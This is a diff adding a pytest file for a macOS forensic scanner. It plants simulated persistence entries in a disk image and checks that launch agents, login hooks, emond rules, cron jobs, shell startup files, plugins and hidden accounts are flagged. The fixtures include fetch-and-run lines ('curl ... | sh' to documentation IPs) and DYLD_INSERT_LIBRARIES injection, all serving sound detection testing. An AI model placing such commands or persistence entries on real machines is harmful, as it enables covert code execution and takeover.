@@ -1,0 +1,301 @@
+"""Every macOS start-up place (issue 12): each entry written as the real file into a disk copy is
+found, with its origin and behaviour, at the severity the rules give; a benign entry in the same
+place is not flagged. One copy holds all of them and is scanned once with the shipped rules."""
+
+from __future__ import annotations
+
+import plistlib
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from techcheck.artifacts import Artifact
+from techcheck.collectors.macos.receipts import BomError, bom_paths, installed_path
+from techcheck.ruleset import load_rules, shipped_rules_dir
+from techcheck.scan import ScanResult, run_scan
+from techcheck.target.image import open_image
+from tests.conftest import write
+from tests.macos_tree import (
+    mac_skeleton,
+    make_bom,
+    put_real,
+    write_app,
+    write_job,
+    write_plist,
+    write_receipt,
+)
+from tests.test_macos_loginitems import btm_archive
+
+RULES = load_rules([shipped_rules_dir()])
+HOME = "Users/ana"
+SAMPLE_BOM = Path(__file__).parent / "data/macos/receipts/Sample.bom"
+
+
+def dslocal_user(name: str, uid: int, created: float, hidden: bool = False) -> bytes:
+    record: dict[str, Any] = {"name": [name], "uid": [str(uid)], "shell": ["/bin/zsh"], "realname": [name],
+                              "ShadowHashData": [b"hash"],
+                              "accountPolicyData": [plistlib.dumps({"creationTime": created})]}
+    if hidden:
+        record["IsHidden"] = ["1"]
+    return plistlib.dumps(record, fmt=plistlib.FMT_BINARY)
+
+
+def build_launchd(root: Path) -> None:
+    la, ld = f"{HOME}/Library/LaunchAgents", "Library/LaunchDaemons"
+    write(root, f"{HOME}/Library/.cache/agent", b"\xcf\xfa\xed\xfe")
+    write_job(root, f"{la}/com.example.sync.plist", "com.example.sync", [f"/{HOME}/Library/.cache/agent"])
+    write_job(root, f"{ld}/com.example.sysmond.plist", "com.example.sysmond", ["/usr/local/bin/sysmond"],
+              binary=True)
+    write_job(root, f"{ld}/com.apple.softwareupdate.helper.plist", "com.apple.softwareupdate.helper",
+              ["/Library/Application Support/SysUpdate/update"])
+    write_job(root, f"{la}/com.example.fetch.plist", "com.example.fetch",
+              ["/bin/sh", "-c", "curl -s https://203.0.113.5/a.sh | sh"])
+    write(root, "private/tmp/run.sh", "#!/bin/bash\necho hi\n")
+    write_job(root, f"{ld}/com.example.tmpscript.plist", "com.example.tmpscript",
+              ["/bin/bash", "/private/tmp/run.sh"])
+    write_job(root, f"{la}/com.example.inject.plist", "com.example.inject",
+              ["/Applications/Notes.app/Contents/MacOS/x"],
+              EnvironmentVariables={"DYLD_INSERT_LIBRARIES": f"/{HOME}/Library/.lib/libhook.dylib"})
+    # benign: Santa's real agent with Santa.app present; Apple's real job in /System; a packaged daemon
+    put_real(root, "macos/LaunchAgents/com.google.santa.plist", "Library/LaunchAgents/com.google.santa.plist")
+    write_app(root, "Applications/Santa.app", "com.google.santa", "Santa")
+    put_real(root, "macos/LaunchDaemons/com.apple.mDNSResponder.plist",
+             "System/Library/LaunchDaemons/com.apple.mDNSResponder.plist")
+    write_job(root, f"{ld}/org.example.backupd.plist", "org.example.backupd", ["/usr/local/libexec/backupd"],
+              EnvironmentVariables={"LANG": "en_US.UTF-8"})
+    write(root, "usr/local/libexec/backupd", b"\xcf\xfa\xed\xfe")
+    write_receipt(root, "org.example.backup", ["/usr/local/libexec/backupd", f"/{ld}/org.example.backupd.plist"])
+
+
+def build_login_items(root: Path) -> None:
+    byhost = f"{HOME}/Library/Preferences/ByHost/com.apple.loginwindow.1F2E3D4C-0000-4000-8000-00000000ABCD.plist"
+    write_plist(root, byhost, {"TALAppsToRelaunchAtLogin": [
+        {"BundleID": "com.example.helper", "Path": "/Users/Shared/Helper.app", "Hide": True, "BackgroundState": 2},
+        {"BundleID": "com.google.Chrome", "Path": "/Applications/Google Chrome.app", "Hide": False,
+         "BackgroundState": 2}]}, binary=True)
+    write_app(root, "Applications/Google Chrome.app", "com.google.Chrome", "Google Chrome")
+    write(root, "private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v4.btm", btm_archive())
+    write_app(root, "Applications/Notes Helper.app", "com.example.noteshelper", "Notes Helper")
+    write(root, "Applications/Notes.app/Contents/MacOS/x", b"\xcf\xfa\xed\xfe")
+    write_app(root, "Applications/Tool.app", "com.example.tool", "Tool",
+              LSEnvironment={"DYLD_INSERT_LIBRARIES": "/Users/Shared/libspy.dylib"})
+    write_app(root, "Applications/Editor.app", "com.example.editor", "Editor", LSEnvironment={"LANG": "C"})
+
+
+def build_hooks_and_rules(root: Path) -> None:
+    write(root, "Users/Shared/.hook.sh", "#!/bin/sh\ncurl -s https://203.0.113.5/p | sh\n")
+    write_plist(root, "Library/Preferences/com.apple.loginwindow.plist",
+                {"LoginHook": "/Users/Shared/.hook.sh", "HiddenUsersList": ["support2"]}, binary=True)
+    write_plist(root, "private/var/root/Library/Preferences/com.apple.loginwindow.plist",
+                {"LogoutHook": "/usr/local/outset/outset --logout"})
+    write(root, "usr/local/outset/outset", "#!/usr/bin/env python3\nprint('ok')\n")
+    write_receipt(root, "io.macadmins.Outset", ["/usr/local/outset/outset"])
+    rules = "private/etc/emond.d/rules"
+    write_plist(root, f"{rules}/update.plist", [{
+        "name": "update", "enabled": True, "eventTypes": ["startup"],
+        "actions": [{"type": "RunCommand", "command": "/bin/sh", "user": "root",
+                     "arguments": ["-c", "/Users/Shared/.u/agent"]}]}])
+    write_plist(root, f"{rules}/SampleRules.plist", [{
+        "name": "sample rule", "enabled": True, "eventTypes": ["startup"],
+        "actions": [{"type": "Log", "message": "event monitor started"}]}])
+    write(root, "private/var/db/emondClients/x", "")
+    item = "Library/StartupItems/Updater"
+    write(root, f"{item}/Updater", "#!/bin/sh\n. /etc/rc.common\n/usr/local/bin/updater &\n")
+    write_plist(root, f"{item}/StartupParameters.plist",
+                {"Description": "Updater", "Provides": ["Updater"], "OrderPreference": "None"})
+    kept = "Library/StartupItems/PrintSpool"
+    write(root, f"{kept}/PrintSpool", "#!/bin/sh\nexit 0\n")
+    write_plist(root, f"{kept}/StartupParameters.plist", {"Description": "Print spooler", "Provides": ["PrintSpool"]})
+    write_receipt(root, "com.example.printspool", [f"/{kept}", f"/{kept}/PrintSpool"])
+
+
+def build_schedules_and_shell(root: Path) -> None:
+    write(root, "private/var/at/tabs/ana", "*/10 * * * * /Users/ana/.cache/x/run\n")
+    write(root, "private/var/at/tabs/bo", "0 3 * * * /usr/local/libexec/backupd --nightly\n")
+    write(root, "Users/bo/Library/Preferences/.keep", "")
+    write(root, "private/var/at/jobs/a0001801a2b3c4", "#!/bin/sh\n# atrun uid=501 gid=20\nexport HOME=/Users/ana\n"
+                                                     "cd /Users/ana || {\n exit 1\n}\n/usr/local/bin/sendfile\n")
+    write(root, "private/etc/periodic/daily/110.clean-tmps", "#!/bin/sh\n# stock macOS script\n")
+    write(root, "usr/local/etc/periodic/daily/500.sync", "#!/bin/sh\n/usr/local/bin/sync\n")
+    write(root, f"{HOME}/.zshrc", 'eval "$(/opt/homebrew/bin/brew shellenv)"\nexport PATH="$HOME/bin:$PATH"\n'
+                                  "curl -fsSL https://203.0.113.9/x | sh\n"
+                                  "nohup /private/tmp/.x/agent >/dev/null 2>&1 &\n")
+    write(root, "private/etc/zshrc", "# System-wide profile for interactive zsh(1) shells.\nsetopt BEEP\n")
+
+
+def build_plugins_and_extensions(root: Path) -> None:
+    write_app(root, "Library/Security/SecurityAgentPlugins/AuthHelper.bundle", "com.example.authhelper")
+    write_app(root, "Library/Security/SecurityAgentPlugins/JamfConnectLogin.bundle", "com.jamf.connect.login")
+    write_receipt(root, "com.jamf.connect.login", ["/Library/Security/SecurityAgentPlugins/JamfConnectLogin.bundle"])
+    write_app(root, "Library/DirectoryServices/PlugIns/Lookup.dsplug", "com.example.lookup")
+    write_app(root, f"{HOME}/Library/Screen Savers/Fish.saver", "com.example.fish")
+    write_app(root, "Library/Spotlight/Notes.mdimporter", "com.example.notes.mdimporter")
+    write_app(root, f"{HOME}/Library/QuickLook/Peek.qlgenerator", "com.example.peek")
+    write_app(root, "Library/QuickLook/Markdown.qlgenerator", "com.example.markdown")
+    write_receipt(root, "com.example.markdown", ["/Library/QuickLook/Markdown.qlgenerator"])
+    write_app(root, "Library/Extensions/Watch.kext", "com.example.watch")
+    sysext = "Library/SystemExtensions"
+    write_app(root, f"{sysext}/1111AAAA-0000-4000-8000-000000000001/com.example.netfilter.systemextension",
+              "com.example.netfilter")
+    write_app(root, f"{sysext}/2222BBBB-0000-4000-8000-000000000002/com.google.santa.daemon.systemextension",
+              "com.google.santa.daemon")
+    write_app(root, "Applications/Santa.app/Contents/Library/SystemExtensions/com.google.santa.daemon.systemextension",
+              "com.google.santa.daemon")
+    write(root, "Library/PrivilegedHelperTools/com.example.rootd", b"\xcf\xfa\xed\xfe")
+    write(root, "Library/PrivilegedHelperTools/com.example.vpn.helper", b"\xcf\xfa\xed\xfe")
+    write_app(root, "Applications/ExampleVPN.app", "com.examplecorp.vpn", "ExampleVPN",
+              SMPrivilegedExecutables={"com.example.vpn.helper": "identifier com.example.vpn.helper"})
+
+
+def build_accounts(root: Path) -> None:
+    base = "private/var/db/dslocal/nodes/Default"
+    now, old = time.time(), time.time() - 400 * 86400
+    write(root, f"{base}/users/ana.plist", dslocal_user("ana", 501, old))
+    write(root, f"{base}/users/support.plist", dslocal_user("support", 502, old, hidden=True))
+    write(root, f"{base}/users/svc.plist", dslocal_user("svc", 499, old))
+    write(root, f"{base}/users/support2.plist", dslocal_user("support2", 503, old))
+    write(root, f"{base}/users/helper.plist", dslocal_user("helper", 504, now - 2 * 86400))
+    write(root, f"{base}/users/Guest.plist", dslocal_user("Guest", 201, old))
+    write(root, f"{base}/users/_spotlight.plist", dslocal_user("_spotlight", 89, old))
+    write(root, f"{base}/groups/admin.plist",
+          plistlib.dumps({"name": ["admin"], "users": ["root", "ana", "helper"]}, fmt=plistlib.FMT_BINARY))
+
+
+@pytest.fixture(scope="module")
+def scan(tmp_path_factory: pytest.TempPathFactory) -> ScanResult:
+    root = mac_skeleton(tmp_path_factory.mktemp("attack") / "mac")
+    for build in (build_launchd, build_login_items, build_hooks_and_rules, build_schedules_and_shell,
+                  build_plugins_and_extensions, build_accounts):
+        build(root)
+    return run_scan(open_image(str(root)), RULES)
+
+
+def entry(scan: ScanResult, mechanism: str, name: str) -> Artifact:
+    found = [a for a in scan.artifacts if a.get("mechanism") == mechanism and a.get("name") == name]
+    assert len(found) == 1, [(a.get("mechanism"), a.get("name")) for a in scan.artifacts]
+    return found[0]
+
+
+def severities(scan: ScanResult, art: Artifact) -> set[str]:
+    return {f.severity for f in scan.findings if art in f.artifacts}
+
+
+def rule_ids(scan: ScanResult, art: Artifact) -> set[str]:
+    return {f.rule.id for f in scan.findings if art in f.artifacts}
+
+
+# (mechanism, name, origin, behaviour tags that must be there, severities expected)
+FLAGGED = [
+    ("launch_agent", "com.example.sync", "unknown", {"hidden_folder", "user_folder"}, {"alert", "review"}),
+    ("launch_daemon", "com.example.sysmond", "unknown", set(), {"review"}),
+    ("launch_daemon", "com.apple.softwareupdate.helper", "unknown", {"system_name_elsewhere"}, {"alert", "review"}),
+    ("launch_agent", "com.example.fetch", "unknown", {"download_exec", "inline_code"}, {"review"}),
+    ("launch_daemon", "com.example.tmpscript", "unknown", {"temp_folder"}, {"alert", "review"}),
+    ("dyld_insert", "com.example.inject", "unknown", {"hidden_folder"}, {"alert", "review"}),
+    ("dyld_insert", "Tool", "unknown", set(), {"alert", "review"}),
+    ("reopen_at_login", "Helper", "unknown", set(), {"alert", "review"}),
+    ("launch_agent", "sync agent", "unknown", {"hidden_folder"}, {"alert", "review"}),  # from the BTM store
+    ("login_hook", "LoginHook", "unknown", {"download_exec"}, {"alert", "review"}),
+    ("emond_rule", "update", "unknown", {"inline_code"}, {"alert", "review"}),
+    ("startup_item", "Updater", "unknown", set(), {"review"}),
+    ("cron", "ana:1", "unknown", {"hidden_folder"}, {"alert", "review"}),
+    ("at_job", "a0001801a2b3c4", "unknown", set(), {"review"}),
+    ("periodic", "500.sync", "unknown", set(), {"review"}),
+    ("shell_startup", ".zshrc:3", "unknown", {"download_exec"}, {"review"}),
+    ("shell_startup", ".zshrc:4", "unknown", {"temp_folder", "hidden_folder"}, {"alert", "review"}),
+    ("authorization_plugin", "AuthHelper", "unknown", set(), {"alert", "review"}),
+    ("directory_services_plugin", "Lookup", "unknown", set(), {"review"}),
+    ("screen_saver", "Fish", "unknown", set(), {"review"}),
+    ("spotlight_importer", "Notes", "unknown", set(), {"review"}),
+    ("quicklook_plugin", "Peek", "unknown", set(), {"review"}),
+]
+
+# (mechanism, name, origin, origin_name): found, not flagged
+BENIGN = [
+    ("launch_agent", "com.google.santa", "installed", "Santa"),
+    ("launch_daemon", "com.apple.mDNSResponder.reloaded", "system", "macOS"),
+    ("launch_daemon", "org.example.backupd", "installed", "org.example.backup"),
+    ("reopen_at_login", "Google Chrome", "installed", "Google Chrome"),
+    ("login_item", "Notes Helper", "installed", "Notes Helper"),
+    ("logout_hook", "LogoutHook", "installed", "io.macadmins.Outset"),
+    ("startup_item", "PrintSpool", "installed", "com.example.printspool"),
+    ("cron", "bo:1", "installed", "org.example.backup"),
+    ("periodic", "110.clean-tmps", "system", "macOS"),
+    ("authorization_plugin", "JamfConnectLogin", "installed", "com.jamf.connect.login"),
+    ("quicklook_plugin", "Markdown", "installed", "com.example.markdown"),
+]
+
+
+@pytest.mark.parametrize(("mechanism", "name", "origin", "tags", "expected"), FLAGGED,
+                         ids=[f"{m}:{n}" for m, n, *_ in FLAGGED])
+def test_attack_entry_found_with_origin_behaviour_and_severity(scan: ScanResult, mechanism: str, name: str,
+                                                               origin: str, tags: set[str], expected: set[str]) -> None:
+    art = entry(scan, mechanism, name)
+    assert art.get("origin") == origin
+    assert tags <= set(art.get("behaviour") or []), art.get("behaviour")
+    assert expected <= severities(scan, art), rule_ids(scan, art)
+
+
+@pytest.mark.parametrize(("mechanism", "name", "origin", "origin_name"), BENIGN,
+                         ids=[f"{m}:{n}" for m, n, *_ in BENIGN])
+def test_benign_entry_in_the_same_place_is_not_flagged(scan: ScanResult, mechanism: str, name: str, origin: str,
+                                                       origin_name: str) -> None:
+    art = entry(scan, mechanism, name)
+    assert (art.get("origin"), art.get("origin_name")) == (origin, origin_name)
+    assert not severities(scan, art) & {"alert", "review"}, rule_ids(scan, art)
+
+
+def test_interpreter_entries_take_the_origin_of_their_script(scan: ScanResult) -> None:
+    tmp = entry(scan, "launch_daemon", "com.example.tmpscript")
+    assert (tmp.get("interpreter"), tmp.get("runs")) == ("bash", "/private/tmp/run.sh")
+    inline = entry(scan, "launch_agent", "com.example.fetch")
+    assert inline.get("interpreter") == "sh" and not inline.get("runs") and inline.get("origin") == "unknown"
+
+
+def test_benign_places_yield_nothing(scan: ScanResult) -> None:
+    names = {(a.get("mechanism"), a.get("name")) for a in scan.artifacts}
+    assert ("emond_rule", "sample rule") not in names  # a rule that only logs runs nothing
+    assert not any(m == "dyld_insert" and n in ("org.example.backupd", "Editor") for m, n in names)
+    assert not any(m == "shell_startup" and str(n).startswith((".zshrc:1", ".zshrc:2", "zshrc:")) for m, n in names)
+
+
+def test_extensions_and_helper_tools(scan: ScanResult) -> None:
+    apps = {str(a.get("install_path")).rsplit("/", 1)[-1]: a for a in scan.artifacts if a.kind == "app"}
+    watch, net, santa = apps["Watch.kext"], apps["com.example.netfilter.systemextension"], \
+        apps["com.google.santa.daemon.systemextension"]
+    assert watch.get("origin") == "unknown" and "review" in severities(scan, watch)
+    assert net.get("origin") == "unknown" and "review" in severities(scan, net)
+    assert (santa.get("origin"), santa.get("origin_name")) == ("installed", "Santa")
+    assert not severities(scan, santa) & {"alert", "review"}
+    rootd, vpn = apps["com.example.rootd"], apps["com.example.vpn.helper"]
+    assert rootd.get("origin") == "unknown" and "review" in severities(scan, rootd)
+    assert (vpn.get("origin"), vpn.get("origin_name")) == ("installed", "ExampleVPN")  # SMJobBless list
+    assert not severities(scan, vpn)
+
+
+def test_accounts_hidden_and_new_admin(scan: ScanResult) -> None:
+    accounts = {a.get("name"): a for a in scan.artifacts if a.kind == "account"}
+    for name in ("support", "svc", "support2"):  # IsHidden, id under 500, HiddenUsersList
+        assert accounts[name].get("hidden") is True, name
+        assert "macos.account.hidden" in rule_ids(scan, accounts[name])
+    helper = accounts["helper"]
+    assert helper.get("admin") and helper.get("recently_created") and "review" in severities(scan, helper)
+    for name in ("ana", "Guest", "_spotlight"):
+        assert not accounts[name].get("hidden"), name
+        assert "review" not in severities(scan, accounts[name]) and "alert" not in severities(scan, accounts[name])
+
+
+def test_real_bom_from_pkgbuild() -> None:
+    paths = bom_paths(SAMPLE_BOM.read_bytes())
+    assert paths == [".", "./Applications", "./Applications/hello.txt"]
+    assert [installed_path("/", p) for p in paths] == ["/", "/Applications", "/Applications/hello.txt"]
+
+
+def test_bom_writer_round_trip_and_damaged_boms() -> None:
+    data = make_bom(["./usr/local/bin/tool", "./Library/LaunchDaemons/x.plist"])
+    assert set(bom_paths(data)) >= {"./usr/local/bin/tool", "./Library/LaunchDaemons/x.plist", "./usr/local"}
+    for bad in (b"", b"BOMStore" + b"\xff" * 40, data[:600], b"NOTABOM" + data[7:]):
+        with pytest.raises(BomError):
+            bom_paths(bad)
